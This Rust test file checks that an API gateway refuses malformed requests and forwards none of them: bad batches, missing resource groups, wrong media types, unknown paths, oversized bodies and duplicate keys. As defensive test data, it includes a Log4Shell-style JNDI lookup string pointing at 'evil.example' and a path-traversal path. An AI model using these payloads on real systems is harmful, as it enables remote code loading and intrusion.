//! Requests that are refused, with their rules; none of them reaches the service.

use serde_json::{Value, json};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
};

use crate::rig::{BULK, MERGE_PATCH, Rig, item, stop};

#[tokio::test]
async fn a_body_that_breaks_a_rule_is_refused_with_every_problem() {
    let rig = Rig::start().await;
    let many: Vec<_> = (0..101)
        .map(|n| item(&format!("d{n:03}"), "STOPPED"))
        .collect();
    let deployments = |items: Value| json!({ "deployments": items });
    for (body, rule) in [
        (deployments(many.into()), "batch-too-large"),
        (stop(&["a1b2", "a1b2"]), "duplicate"),
        (
            deployments(json!([item("a1b2", "STOPPED"), item("a1b2", "DELETED")])),
            "conflict",
        ),
        (stop(&["a/b2"]), "id-malformed"),
        (stop(&[""]), "id-empty"),
        (
            deployments(json!([{ "id": null, "targetStatus": "STOPPED" }])),
            "id-null",
        ),
        (
            json!({ "executions": [item("a1b2", "STOPPED")] }),
            "wrong-collection",
        ),
        (deployments(json!([])), "list-empty"),
        (json!({}), "list-empty"),
        (
            deployments(json!([item("a1b2", "RUNNING")])),
            "action-unknown",
        ),
        (deployments(json!([{ "id": "a1b2" }])), "action-missing"),
        (json!([]), "body-unreadable"),
    ] {
        let answer = rig.bulk(&body).answer().await;
        answer.refused(400, rule);
    }
    let problems = rig.bulk(&stop(&["a1b2", "x", "a1b2"])).answer().await;
    let details = problems.refused(400, "id-malformed");
    assert_eq!(details["problems"][0]["parameters"]["min"], 4);
    assert_eq!(details["problems"][1]["rule"], "duplicate");
    assert_eq!(details["problems"][1]["place"]["path"]["index"], 2);
    rig.nothing_sent();
}

#[tokio::test]
async fn a_connection_may_take_fewer_items_than_the_service() {
    let rig = Rig::start().await;
    let path = "/api/connections/small-1/v2/lm/deployments";
    let ids = ["a1b2", "a1b3", "a1b4", "a1b5"];
    let ask = |ids: &[&str]| {
        let ask = rig.in_group("PATCH", path);
        ask.body(MERGE_PATCH, stop(ids).to_string())
    };
    let details = ask(&ids).answer().await.refused(400, "batch-too-large");
    assert_eq!(
        details["problems"][0]["parameters"],
        json!({ "items": 4, "max": 3 })
    );
    rig.nothing_sent();
    ask(&ids[..3]).answer().await.of_service(202);
}

#[tokio::test]
async fn a_resource_group_is_needed_and_has_to_be_one_of_the_connections() {
    let rig = Rig::start().await;
    let list = "/api/connections/main/v2/lm/executions";
    let group = "AI-Resource-Group";
    for (method, path) in [("GET", list), ("DELETE", &format!("{list}/a1b2"))] {
        let missing = rig.ask(method, path).answer().await;
        missing.refused(400, "resource-group-missing");
        let blank = rig.ask(method, path).header(group, " ").answer().await;
        blank.refused(400, "resource-group-missing");
        let unknown = rig.ask(method, path).header(group, "team-c").answer().await;
        let details = unknown.refused(400, "resource-group-unknown");
        let problem = &details["problems"][0];
        assert_eq!(
            problem["parameters"],
            json!({ "known": ["default", "team-b"] })
        );
        assert_eq!(problem["value"], "team-c");
        let two = rig.in_group(method, path).header(group, "team-b");
        two.answer().await.refused(400, "resource-group-unknown");
    }
    let body = stop(&["a1b2"]).to_string();
    let missing = rig.ask("PATCH", BULK).body(MERGE_PATCH, body);
    missing
        .answer()
        .await
        .refused(400, "resource-group-missing");
    let no_name = rig.ask("GET", "/api/connections/small-1/v2/lm/deployments");
    let no_name = no_name.header(group, "a b").answer().await;
    no_name.refused(400, "resource-group-unknown");
    rig.nothing_sent();
}

#[tokio::test]
async fn a_body_has_to_be_of_the_media_type_of_the_call() {
    let rig = Rig::start().await;
    let body = stop(&["a1b2"]).to_string();
    for media_type in [
        "text/plain",
        "application/json",
        "application/x-www-form-urlencoded",
    ] {
        let ask = rig.in_group("PATCH", BULK).body(media_type, body.clone());
        let details = ask.answer().await.refused(415, "media-type");
        assert_eq!(details["allowed"], json!([MERGE_PATCH]));
    }
    let one = format!("{BULK}/a1b2");
    let ask = rig.in_group("PATCH", &one);
    let ask = ask.body("text/plain", r#"{"targetStatus":"STOPPED"}"#);
    let details = ask.answer().await.refused(415, "media-type");
    assert_eq!(details["allowed"], json!(["application/json"]));
    rig.nothing_sent();
}

#[tokio::test]
async fn one_item_can_only_be_stopped() {
    let rig = Rig::start().await;
    for (body, rule) in [
        (r#"{"targetStatus":"DELETED"}"#, "action-unsupported"),
        (r#"{"targetStatus":"STOPPED","x":1}"#, "property-unknown"),
        ("", "body-unreadable"),
    ] {
        let ask = rig.in_group("PATCH", &format!("{BULK}/a1b2"));
        let ask = ask.body("application/json", body);
        ask.answer().await.refused(400, rule);
    }
    rig.nothing_sent();
}

#[tokio::test]
async fn what_is_not_in_the_table_is_not_forwarded() {
    let rig = Rig::start().await;
    let main = "/api/connections/main";
    for (method, path, status, rule) in [
        (
            "GET",
            format!("{main}/v2/lm/configurations"),
            404,
            "path-unknown",
        ),
        (
            "GET",
            format!("{main}/v2/admin/secrets"),
            404,
            "path-unknown",
        ),
        (
            "GET",
            format!("{main}/v2/../v2/lm/meta"),
            404,
            "path-unknown",
        ),
        ("GET", main.to_owned(), 404, "path-unknown"),
        ("GET", format!("{main}/"), 404, "path-unknown"),
        ("GET", "/api/else".to_owned(), 404, "path-unknown"),
        (
            "GET",
            "/api/connections/other/v2/lm/meta".to_owned(),
            404,
            "connection-unknown",
        ),
        ("GET", format!("{BULK}/x"), 400, "id-malformed"),
        ("GET", format!("{BULK}?$filter=x"), 400, "parameter-unknown"),
        ("GET", format!("{BULK}?$top=x"), 400, "parameter-malformed"),
        ("PATCH", format!("{BULK}?x=1"), 400, "parameter-unknown"),
        ("POST", BULK.to_owned(), 405, "method-unknown"),
        ("DELETE", BULK.to_owned(), 405, "method-unknown"),
        ("OPTIONS", BULK.to_owned(), 405, "method-unknown"),
        ("PUT", format!("{BULK}/a1b2"), 405, "method-unknown"),
        ("POST", "/api/connections".to_owned(), 405, "method-unknown"),
        (
            "OPTIONS",
            "/api/connections".to_owned(),
            405,
            "method-unknown",
        ),
        (
            "DELETE",
            "/api/sandbox/sim/faults".to_owned(),
            405,
            "method-unknown",
        ),
        ("POST", "/".to_owned(), 405, "method-unknown"),
        ("OPTIONS", "/".to_owned(), 405, "method-unknown"),
    ] {
        let answer = rig.in_group(method, &path).answer().await;
        answer.refused(status, rule);
    }
    let answer = rig.in_group("POST", BULK).answer().await;
    assert_eq!(answer.header("allow"), Some("GET, PATCH"));
    let details = answer.refused(405, "method-unknown");
    assert_eq!(details["allowed"], json!(["GET", "PATCH"]));
    let head = rig.in_group("HEAD", BULK).answer().await;
    assert_eq!((head.status, head.body.len()), (405, 0));
    rig.nothing_sent();
}

#[tokio::test]
async fn a_body_has_a_largest_size_and_its_sender_gets_to_know() {
    let rig = Rig::start().await;
    let body = stop(&["a1b2"]).to_string();
    let most = 64 << 10;
    // Blanks are no mistake otherwise.
    let of_size = |size| body.clone() + &" ".repeat(size - body.len());
    let ask = rig.in_group("PATCH", BULK);
    let ask = ask.body(MERGE_PATCH, of_size(most + 1));
    let details = ask.answer().await.refused(413, "body-too-large");
    assert_eq!(details["mostBytes"], most);
    rig.nothing_sent();
    let ask = rig.in_group("PATCH", BULK);
    let ask = ask.body(MERGE_PATCH, of_size(most));
    ask.answer().await.of_service(202);
}

#[tokio::test]
async fn who_sends_all_of_a_large_body_before_reading_gets_to_know_too() {
    let rig = Rig::start().await;
    let size = 7 << 20;
    let head = format!(
        "PATCH {BULK} HTTP/1.1\r\nhost: localhost\r\nx-bulkhead-request: 1\r\n\
         content-length: {size}\r\n\r\n"
    );
    let mut stream = TcpStream::connect(rig.address).await.unwrap();
    stream.write_all(head.as_bytes()).await.unwrap();
    stream.write_all(&vec![b' '; size]).await.unwrap();
    let mut status = [0; 12];
    stream.read_exact(&mut status).await.unwrap();
    assert_eq!(&status, b"HTTP/1.1 413");
    rig.nothing_sent();
}

#[tokio::test]
async fn a_correlation_id_is_letters_digits_and_plain_signs() {
    let rig = Rig::start().await;
    for id in ["", "a b", "${jndi:ldap://evil.example/a}", &"x".repeat(129)] {
        let answer = rig.change().header("X-Correlation-ID", id).answer().await;
        answer.refused(400, "correlation-id-malformed");
        let own = answer.header("x-correlation-id").unwrap();
        assert_eq!(own.len(), 32, "{own}");
    }
    rig.nothing_sent();
}

#[tokio::test]
async fn a_key_that_stands_twice_is_refused_in_every_body() {
    let rig = Rig::start().await;
    let sent = rig.in_group("PATCH", "/api/connections/main/v2/lm/deployments");
    let body =
        r#"{"deployments":[{"id":"a1b2","targetStatus":"STOPPED","targetStatus":"DELETED"}]}"#;
    let answer = sent.body(MERGE_PATCH, body).answer().await;
    let details = answer.refused(400, "key-duplicate");
    assert_eq!(
        details["problems"][0]["place"]["path"],
        json!({ "base": "$.deployments", "index": 0, "field": "targetStatus" })
    );
    let one = rig.in_group("PATCH", "/api/connections/main/v2/lm/deployments/a1b2");
    let body = r#"{"targetStatus":"DELETED","targetStatus":"STOPPED"}"#;
    let answer = one.body("application/json", body).answer().await;
    answer.refused(400, "key-duplicate");
    let faults = rig.ask("PUT", "/api/sandbox/sim/faults");
    let body = r#"{"faults":[{"kind":"slow","kind":"cut"}]}"#;
    let answer = faults.body("application/json", body).answer().await;
    answer.refused(400, "key-duplicate");
    rig.nothing_sent();
}
